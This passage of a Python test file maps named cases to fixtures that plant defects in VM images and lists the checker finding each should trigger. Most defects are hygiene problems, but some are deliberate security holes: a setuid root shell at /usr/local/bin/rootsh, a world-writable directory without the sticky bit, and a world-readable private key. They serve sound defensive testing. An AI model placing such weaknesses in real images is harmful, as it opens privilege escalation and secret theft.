    "master-sudoers-d-build-rule": _d(M, sudoers_d_build_rule, "test_sudo_rules_are_declared"),
    "aws-hvm-sudoers-d-build-rule": _d(H, sudoers_d_build_rule, "test_sudo_rules_are_declared"),
    "master-build-user": _d(M, build_user, "test_login_users_are_declared"),
    "aws-paravirt-build-user": _d(P, build_user, "test_login_users_are_declared"),
    "master-machine-id": _d(M, machine_id, "test_machine_id_empty"),
    "aws-hvm-machine-id": _d(H, machine_id, "test_machine_id_empty"),
    "aws-paravirt-machine-id": _d(P, machine_id, "test_machine_id_empty"),
    "master-dhcp-lease": _d(M, dhcp_lease, "test_no_dhcp_leases"),
    "aws-hvm-dhcp-lease": _d(H, dhcp_lease, "test_no_dhcp_leases"),
    "aws-paravirt-dhcp-lease": _d(P, dhcp_lease, "test_no_dhcp_leases"),
    "master-root-password": _d(M, root_password, "test_no_account_has_a_password", "test_root_password_locked"),
    "aws-hvm-root-password": _d(H, root_password, "test_no_account_has_a_password", "test_root_password_locked"),
    "master-guest-additions-iso": _d(M, guest_additions_iso, "test_no_guest_additions_iso"),
    "aws-hvm-guest-additions-iso": _d(H, guest_additions_iso, "test_no_guest_additions_iso"),
    "aws-paravirt-guest-additions-iso": _d(P, guest_additions_iso, "test_no_guest_additions_iso"),
    "aws-paravirt-pinned-mac": _d(P, pinned_mac, "test_no_interface_pinned_to_the_build_network"),
    "aws-paravirt-cloud-init-disabled": _d(P, cloud_init_disabled, "test_cloud_init_enabled"),
    "master-cloud-init-state": _d(M, cloud_init_state, "test_cloud_init_state_clean", mode=OFF),
    "vagrant-cloud-init-state": _d(V, cloud_init_state, "test_cloud_init_state_clean", mode=OFF),
    "aws-paravirt-cloud-init-state": _d(P, cloud_init_state, "test_cloud_init_state_clean"),
    "aws-hvm-no-xen-blkfront": _d(H, no_xen_blkfront, "test_xen_blkfront_in_initramfs", mode=OFF),
    "master-interface-names": _d(M, interface_names, "test_classic_interface_names_on_kernel_line", mode=OFF),
    "vagrant-interface-names": _d(V, interface_names, "test_classic_interface_names_on_kernel_line", mode=OFF),
    "aws-hvm-interface-names": _d(H, interface_names, "test_classic_interface_names_on_kernel_line", mode=OFF),
    "master-nscd-disabled": _d(M, nscd_disabled, "test_nscd_installed_and_enabled"),
    "vagrant-nscd-disabled": _d(V, nscd_disabled, "test_nscd_installed_and_enabled"),
    "aws-hvm-nscd-disabled": _d(H, nscd_disabled, "test_nscd_installed_and_enabled"),
    "master-root-fs-type": _d(M, fstab_wrong_type, "test_root_filesystem_type", mode=OFF),
    "vagrant-root-fs-type": _d(V, fstab_wrong_type, "test_root_filesystem_type", mode=OFF),
    "aws-hvm-root-fs-type": _d(H, fstab_wrong_type, "test_root_filesystem_type", mode=OFF),
    # the whole-tree checks in every image type (each names its own path)
    "vagrant-setuid-shell": _x(V, setuid_shell, "/usr/local/bin/rootsh", (PRIVILEGE, "/usr/local/bin/rootsh: setuid")),
    "aws-hvm-setuid-shell": _x(H, setuid_shell, "/usr/local/bin/rootsh", (PRIVILEGE, "/usr/local/bin/rootsh: setuid")),
    "aws-paravirt-setuid-shell": _x(P, setuid_shell, "/usr/local/bin/rootsh", (PRIVILEGE, "/usr/local/bin/rootsh: setuid")),
    "master-world-writable-drop": _x(M, world_writable_drop, "/srv/drop", (WRITABLE, "/srv/drop: world-writable without the sticky bit")),
    "aws-hvm-world-writable-drop": _x(H, world_writable_drop, "/srv/drop", (WRITABLE, "/srv/drop: world-writable without the sticky bit")),
    "aws-paravirt-world-writable-drop": _x(P, world_writable_drop, "/srv/drop", (WRITABLE, "/srv/drop: world-writable without the sticky bit")),
    "master-readable-private-key": _x(M, readable_private_key, "/etc/ssl/private/build.key", (SECRETS, "/etc/ssl/private/build.key: a secret readable by every user")),
    "vagrant-readable-private-key": _x(V, readable_private_key, "/etc/ssl/private/build.key", (SECRETS, "/etc/ssl/private/build.key: a secret readable by every user")),
    "aws-paravirt-readable-private-key": _x(P, readable_private_key, "/etc/ssl/private/build.key", (SECRETS, "/etc/ssl/private/build.key: a secret readable by every user")),
    "master-crash-dump": _x(M, crash_dump, "/var/crash/core.sshd.4242", (BUDGET, "/var/crash/core.sshd.4242 (")),
    "vagrant-crash-dump": _x(V, crash_dump, "/var/crash/core.sshd.4242", (BUDGET, "/var/crash/core.sshd.4242 (")),
    "aws-hvm-crash-dump": _x(H, crash_dump, "/var/crash/core.sshd.4242", (BUDGET, "/var/crash/core.sshd.4242 (")),
}
# fmt: on
